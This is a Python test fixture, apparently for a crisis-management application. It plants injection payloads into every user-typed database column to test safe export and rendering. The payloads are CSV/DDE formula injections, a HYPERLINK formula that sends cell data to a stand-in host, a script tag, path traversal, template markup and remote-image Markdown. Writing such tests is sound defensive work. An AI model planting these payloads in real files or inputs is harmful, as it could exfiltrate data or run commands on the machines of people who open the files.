"""A crisis where every word that somebody may type is meant to harm: whoever opens a file, and whoever makes it."""

from __future__ import annotations

import io
import json
from dataclasses import replace

from docx import Document

from app.access.actor import COMMAND_LINE, volunteer
from app.core.clock import paris_date
from app.drills.composition import Composition
from app.drills.shock import MobileTeam
from app.exercise.participant import ParticipantRole
from app.response.bulletin import Audience
from app.roster.person import Mission
from app.roster.practice import Site, SiteKind
from app.services.crisis.launch_alert import AlertRequest, launch_alert
from app.services.crisis.open_event import open_event
from app.services.crisis.publish_bulletin import prepare_publication
from app.services.crisis.report_situation import begin_report
from app.services.crisis.write_to_partner import LetterKind, Partner, write_to_partner
from app.services.demo import (
    demo_desk,
    demo_directory,
    demo_event,
    demo_exercise,
    demo_plan,
    demo_review,
    demo_territory,
    demo_trace,
)
from app.services.laboratory.answer_flash import answer_flash
from app.services.laboratory.launch_flash import FlashAsk, launch_flash
from app.services.laboratory.read_scenarios import read_page
from app.services.laboratory.save_run import save_run
from app.services.laboratory.write_scenario import change_scenario, copy_scenario
from app.services.plans.sign_card import read_signatures, sign_cards
from app.services.plans.staff_cell import plan_rotation
from app.services.world.override_roads import override_road
from app.store import community, flashes, people
from app.store.database import Connection, Store
from tests.abuse.a_crisis import an_exercise_under_way
from tests.drills.a_flash import composed as composed_flash
from tests.services.a_drill import run_composition

FORMULAS = (
    '=HYPERLINK("http://192.0.2.1/"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    " ＝1+1",
    "\u200b=1+1",
)
SCRIPT = "<script>alert(1)</script>"
CLIMBS = "../../x\\..\\y"
MARKUP = '#panic("typst") $x$ *gras* `x` {{cpts}} {0.__class__} %s & ]]> INCLUDEPICTURE "http://192.0.2.1/"'
LEAK = "![z](http://192.0.2.1/z) [z](http://192.0.2.1/z) :material/bug_report: :red[z] <b>z</b>"
"""What Markdown would draw: a picture fetched from elsewhere, a link, an icon, a colour, a tag."""
UNREADABLE = "\uffff\x0b\x00\x1b\u202e"
"""What no XML holds, nor the file of any word processor."""

TYPED: dict[str, tuple[str, ...]] = {
    "contact": ("organisation", "name", "note", "checked_by"),
    "hazard": ("source", "note"),
    "sub_zone": ("name",),
    "inventory_item": ("label", "unit", "lot", "place", "holder"),
    "cell_shift": ("name", "handed_over"),
    "articulation": ("they_call", "we_call", "they_offer", "they_expect", "convention"),
    "plan": ("validated_by",),
    "plan_sending": ("organisation", "address", "proof"),
    "plan_reviewer": ("name", "organisation"),
    "plan_comment": ("text", "reply"),
    "card_signature": ("signed_by", "quality"),
    "training": ("title", "place", "note"),
    "training_person": ("comment",),
    "awareness": ("audience", "title", "text"),
    "event": ("title", "summary"),
    "event_step": ("authority", "reference", "note"),
    "checklist_item": ("text", "skipped", "done_by"),
    "staffing_request": ("asked_by", "text", "place", "contact"),
    "authority_request": ("asked_by", "text", "reply", "proof"),
    "situation_report": ("text", "sent_to"),
    "publication": ("title", "text", "channel", "agreed_by"),
    "alert": ("title", "text"),
    "alert_person": ("skills", "note"),
    "desk_survey": ("title",),
    "desk_reply": ("name", "stock", "needs"),
    "partner_letter": ("organisation", "name", "subject", "body", "error"),
    "site": ("name",),
    "road_override": ("reason",),
    "own_scenario": ("title",),
    "laboratory_run": ("title",),
    "flash": ("title",),
    "improvement": ("action", "finding", "cause", "owner", "organisation", "proof"),
    "restitution": ("to_whom", "how"),
    "exercise": ("title", "place", "instructions", "stop_word"),
    "exercise_participant": ("function", "organisation"),
    "exercise_contact": ("name",),
    "exercise_inject": ("sender", "recipient", "channel", "text", "note", "reason"),
    "exercise_response": ("text", "by_whom"),
    "exercise_outcome": ("note",),
    "exercise_decision": ("text", "by_whom"),
    "exercise_rating": ("rationale", "cause"),
    "exercise_observation": ("text", "cause"),
    "hot_wash": ("went_well", "went_less"),
    "review_text": ("text",),
}
"""Columns that hold what somebody typed, on a screen, in a file that was imported or behind a link."""


SHORT = dict.fromkeys(("exercise_inject.sender", "exercise_inject.recipient", "exercise_inject.channel"), 160)
"""Columns where nothing longer was ever written: a scenario made of it would not read."""


def trap(rank: int) -> str:
    """One text that harms in every way we know of, beginning with the nth formula."""
    return f"{FORMULAS[rank % len(FORMULAS)]} {SCRIPT}{CLIMBS} {MARKUP} {LEAK}{UNREADABLE}"


def a_full_crisis(store: Store) -> str:
    """Fill every table of a crisis by its services, an authority's template beside; the event under way."""
    with store.transaction() as conn:
        community.write(conn, replace(community.read(conn), territory="auray"))
        people.put_site(conn, Site(id="ehpad", kind=SiteKind.NURSING_HOME, name="EHPAD", commune_insee="56007"))
        for number, person in enumerate(people.every(conn)):
            missions = person.missions | {Mission.CRISIS_CELL}
            mobile = person.mobile or f"+3363998000{number}"
            people.put(conn, replace(person, missions=missions, mobile=mobile), store.now())
    today = paris_date(store.now())
    for part in (demo_directory, demo_territory, demo_event, demo_desk, demo_plan, demo_review, demo_trace):
        part.fill(COMMAND_LINE, store, today)
    with store.transaction() as conn:
        event_id = first_id(conn, "event")
        write_to_partner(
            conn, store, store.now(), kind=LetterKind.OTHER, about="x", to=Partner("x"), subject="x", body="x"
        )
    launch_alert(COMMAND_LINE, store, AlertRequest(title="x", text="x", frame="ars_call", event_id=event_id))
    marks = {slug: one.mark for slug, one in read_signatures(COMMAND_LINE, store).items()}
    sign_cards(COMMAND_LINE, store, marks, name="x", quality="x")
    plan_rotation(COMMAND_LINE, store, event_id, store.now(), 48, [])
    for audience in Audience:
        if audience not in (Audience.PUBLIC, Audience.TOWN_HALLS):
            prepare_publication(COMMAND_LINE, store, event_id, audience, "x", "x")
    _template(store)
    _drills(store)
    _improvements(store)
    return event_id


TEAM = MobileTeam(name=f"{FORMULAS[1]} {SCRIPT} {LEAK}"[:120], commune="56007", skills=("nursing",), capacity=9)


def _drills(store: Store) -> None:
    """A scenario written here and a run kept whose every free word is a trap, a road corrected, a flash exercise."""
    code = copy_scenario(COMMAND_LINE, store, "d768_penthievre")
    page = read_page(COMMAND_LINE, store, code)
    words = f"{FORMULAS[0]} {SCRIPT}{CLIMBS} {LEAK} {MARKUP}"[:150]
    held = page.scenario.model_copy(update={"title": words, "story": words, "starts": words, "watch": (words,)})
    change_scenario(COMMAND_LINE, store, held, revision=1)
    composed = Composition(
        starts_at=store.now(), title=words, scenario=code, shocks=held.shocks, plan=(*held.answers, TEAM)
    )
    save_run(COMMAND_LINE, store, run_composition(store, composed), words)
    save_run(COMMAND_LINE, store, run_composition(store, composed), f"{words} 2")
    override_road(COMMAND_LINE, store, "56168-56234", 45, "x", 0)
    with store.reading() as conn:
        everyone = tuple(one.id for one in people.every(conn))
    launch_flash(COMMAND_LINE, store, FlashAsk(id="piege", title="x", person_ids=everyone), composed_flash())
    with store.reading() as conn:
        first = flashes.people_of(conn, "piege")[0].person_id
    answer_flash(volunteer(first, "x"), store, "piege", first, (0, 0, 0))


def _improvements(store: Store) -> None:
    """An exercise played and judged, the actions it gave, what was told back of it, another to come; one under way."""
    demo_exercise.fill(COMMAND_LINE, store, paris_date(store.now()))
    an_exercise_under_way(store, ParticipantRole.OBSERVER)


def a_trap(store: Store) -> None:
    """A full crisis with a trap in everything that somebody may type, and what is made of it afterwards."""
    event_id = a_full_crisis(store)
    with store.transaction() as conn:
        _plant(conn)
    begin_report(COMMAND_LINE, store, event_id)
    open_event(COMMAND_LINE, store, f"{FORMULAS[1]} {SCRIPT}", plans=("typologie_1",))


def _plant(conn: Connection) -> None:
    for table, columns in TYPED.items():
        key = "id" if table == "hot_wash" else "rowid"
        rows = [row[0] for row in conn.execute(f"SELECT {key} FROM {table}")]
        assert rows, f"nothing to trap in {table}"
        for rank, row in enumerate(rows):
            values = [trap(rank + place)[: SHORT.get(f"{table}.{one}")] for place, one in enumerate(columns)]
            conn.execute(
                f"UPDATE {table} SET {', '.join(f'{one} = ?' for one in columns)} WHERE {key} = ?", [*values, row]
            )
    conn.execute("UPDATE contact SET email = '=1+1@example.org'")
    conn.execute("UPDATE cell_member SET name = ? WHERE person_id IS NULL", (trap(0),))
    conn.execute("DROP TRIGGER plan_validated_no_change")
    for plan, held in conn.execute("SELECT id, sections FROM plan").fetchall():
        conn.execute("UPDATE plan SET sections = ? WHERE id = ?", (json.dumps(_trapped(json.loads(held))), plan))


def _trapped(held: object) -> object:
    """The sections of a plan with every text of theirs trapped."""
    if isinstance(held, dict):
        return {key: [trap(0), trap(2)] if key == "items" else trap(1) if key in ("text", "title", "source") else _trapped(one) for key, one in held.items()}  # fmt: skip
    return [_trapped(one) for one in held] if isinstance(held, list) else held


def _template(store: Store) -> None:
    """An authority's document, with a mark that the plan's own text repeats."""
    document, kept = Document(), io.BytesIO()
    document.add_paragraph("{{cpts}} {{territoire}} {{stock}}")
    document.save(kept)
    folder = store.folder.content / "templates"
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "ars.docx").write_bytes(kept.getvalue())
    (folder / "ars.yaml").write_text(
        'sections:\n  territory: "{{territoire}}"\nfields:\n  community: "{{cpts}}"\ntables:\n  inventaire: "{{stock}}"\n',
        encoding="utf-8",
    )


def first_id(conn: Connection, table: str) -> str:
    """An id of that table; empty when it has no row."""
    row = conn.execute(f"SELECT id FROM {table} ORDER BY id").fetchone()
    return str(row[0]) if row else ""
